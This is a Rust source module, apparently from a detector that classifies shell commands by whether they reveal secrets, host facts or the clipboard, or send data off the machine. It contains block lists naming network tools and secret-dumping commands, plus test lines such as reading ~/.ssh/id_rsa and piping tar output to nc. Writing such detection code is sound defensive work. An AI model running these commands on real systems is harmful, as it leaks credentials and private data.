//! What commands give and where they take things: the output of `whoami` is a fact about the machine,
//! that of `cat ~/.ssh/id_rsa` a secret, and what `curl` is given leaves.

use super::super::label::Label;
use super::paths;

/// Programs that send what they are given.
const SENDERS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp", "tftp",
    "telnet", "sendmail", "mail", "mailx", "http", "https", "aria2c", "rclone",
];
/// Programs that ask name servers.
const RESOLVERS: &[&str] = &["nslookup", "dig", "host", "drill", "resolvectl", "ping"];
/// Programs that say where they run.
const HOST_FACTS: &[&str] = &[
    "whoami",
    "hostname",
    "id",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "pwd",
    "who",
    "w",
    "users",
    "last",
    "hostnamectl",
    "arp",
    "netstat",
    "ss",
    "ps",
    "tasklist",
    "wmic",
    "getmac",
    "ip",
    "sw_vers",
    "dmidecode",
    "lscpu",
];
/// Programs that show the clipboard.
const CLIPBOARDS: &[&str] = &["pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard"];
/// Words of commands that answer with secrets.
const SECRETS: &[&str] = &[
    "auth token",
    "auth print-access-token",
    "print-access-token",
    "print-identity-token",
    "print-refresh-token",
    "export-credentials",
    "credential fill",
    "credential-osxkeychain",
    "credential-manager",
    "find-generic-password",
    "find-internet-password",
    "dump-keychain",
    "secret-tool",
    "vault read",
    "vault kv get",
    "op item get",
    "pass show",
    "npm token",
    "config get _authtoken",
    "config get global.index-url",
    "get-access-token",
    "kubectl get secret",
    "kubectl config view",
    "terraform output",
    "terraform show",
    "aws configure get",
    "aws sts",
    "aws ssm get",
    "docker-credential",
    "heroku auth",
    "pip config list",
    "pip config get",
    "get secret",
    "get secrets",
    "ecr get-login-password",
    "sts get-session-token",
    "key=clear",
    "cmdkey /list",
    "vaultcmd",
    "gpg --export-secret",
    "secretsmanager get-secret-value",
];

/// Programs that record the screen, a camera or a microphone, with what they have to be told for it.
const RECORDERS: &[(&str, &str)] = &[
    ("scrot", ""),
    ("screencapture", ""),
    ("gnome-screenshot", ""),
    ("spectacle", ""),
    ("grim", ""),
    ("maim", ""),
    ("xwd", ""),
    ("import", "-window"),
    ("ffmpeg", "grab"),
    ("ffmpeg", "avfoundation"),
    ("ffmpeg", "dshow"),
    ("ffmpeg", "/dev/video"),
    ("ffmpeg", "alsa"),
    ("ffmpeg", "pulse"),
    ("fswebcam", ""),
    ("imagesnap", ""),
    ("streamer", ""),
    ("arecord", ""),
    ("parecord", ""),
    ("rec", ""),
    ("nircmd", "savescreenshot"),
];

/// Where a command leaves a recording, when it makes one: every word that may be a file.
pub(in super::super) fn recordings(line: &str) -> Vec<&str> {
    let lower = line.to_ascii_lowercase();
    let records = programs(&lower).any(|program| {
        let mut known = RECORDERS.iter();
        known.any(|(name, told)| *name == program && lower.contains(told))
    });
    let words = line.split([' ', '"', '\'', ';', '|', '&']).skip(1);
    let is_file = |word: &&str| {
        word.len() > 3
            && !word.starts_with('-')
            && word
                .rsplit('/')
                .next()
                .is_some_and(|name| name.contains('.'))
    };
    words.filter(|word| records && is_file(word)).collect()
}

/// Programs at the beginning of a command line and after each `|`, `;`, `&&`, `$(` and backtick.
pub(in super::super) fn programs(line: &str) -> impl Iterator<Item = &str> {
    let parts = line.split(['|', ';', '&', '`', '(', '\n']);
    parts.filter_map(|part| {
        let mut words = part
            .split_whitespace()
            .map(|word| word.trim_matches(['"', '\'']));
        let is_before = |word: &&str| {
            word.contains('=')
                || matches!(
                    *word,
                    "sudo" | "env" | "exec" | "nohup" | "sh" | "bash" | "-c" | "-lc"
                )
        };
        let word = words.find(|word| !is_before(word))?;
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
        Some(name.strip_suffix(".exe").unwrap_or(name))
    })
}

/// Whether the command sends what it is given, or asks a name server about it.
pub(in super::super) fn leaves(line: &str) -> Option<Leaves> {
    let lower = line.to_ascii_lowercase();
    let mut found = None;
    for program in programs(&lower) {
        if SENDERS.contains(&program) {
            return Some(Leaves::Sent);
        }
        if RESOLVERS.contains(&program) {
            found = Some(Leaves::Resolved);
        }
    }
    let is_powershell = lower.contains("invoke-webrequest")
        || lower.contains("invoke-restmethod")
        || lower.contains("uploadstring")
        || lower.contains("uploadfile");
    is_powershell.then_some(Leaves::Sent).or(found)
}

/// How what a command is given leaves the machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in super::super) enum Leaves {
    /// As data.
    Sent,
    /// As a name that a name server is asked for.
    Resolved,
}

/// What the output of a command is.
pub(in super::super) fn label_of_output(line: &str) -> Label {
    let lower = line.to_ascii_lowercase();
    if SECRETS.iter().any(|words| lower.contains(words)) || reads_secrets(line) {
        return Label::SecretFile;
    }
    let mut programs = programs(&lower).peekable();
    let is_environment = |name: &str| matches!(name, "env" | "printenv" | "set" | "export");
    let only = lower.trim();
    if is_environment(only) || programs.peek().is_some_and(|name| is_environment(name)) {
        return Label::EnvAll;
    }
    let all: Vec<&str> = programs.collect();
    if all.iter().any(|name| CLIPBOARDS.contains(name)) || lower.contains("get-clipboard") {
        return Label::Clipboard;
    }
    if all.iter().any(|name| HOST_FACTS.contains(name)) {
        return Label::HostInfo;
    }
    Label::Output
}

/// Whether a command reads files that hold credentials.
pub(in super::super) fn reads_secrets(line: &str) -> bool {
    let readers = [
        "cat", "tar", "zip", "cp", "scp", "curl", "base64", "xxd", "type", "copy", "find", "grep",
        "head", "tail", "more", "less", "gzip", "rsync", "nc", "od", "hexdump", "strings", "7z",
        "robocopy", "xcopy", "openssl", "dd", "awk", "sed",
    ];
    let words = line.split([
        ' ', '"', '\'', ';', '|', '&', '<', '>', '@', '=', '\t', '\n',
    ]);
    let is_secret = |word: &str| paths::label_of(word) == Label::SecretFile;
    programs(line).any(|program| readers.contains(&program)) && words.into_iter().any(is_secret)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_say_what_they_give() {
        for (line, label) in [
            ("whoami", Label::HostInfo),
            ("ip addr", Label::HostInfo),
            ("sh -c 'cat ~/.ssh/id_rsa'", Label::SecretFile),
            ("gh auth token", Label::SecretFile),
            ("env", Label::EnvAll),
            ("printenv HOME", Label::EnvAll),
            ("xclip -o", Label::Clipboard),
            ("git describe --tags", Label::Output),
            ("python3 -m build", Label::Output),
        ] {
            assert_eq!(label_of_output(line), label, "{line}");
        }
    }

    #[test]
    fn commands_say_where_they_take_things() {
        assert_eq!(leaves("tar c x | nc 192.0.2.1 80"), Some(Leaves::Sent));
        assert_eq!(leaves("/usr/bin/curl -d x"), Some(Leaves::Sent));
        assert_eq!(leaves("nslookup a.b.invalid"), Some(Leaves::Resolved));
        assert_eq!(leaves("git push"), None);
    }
}
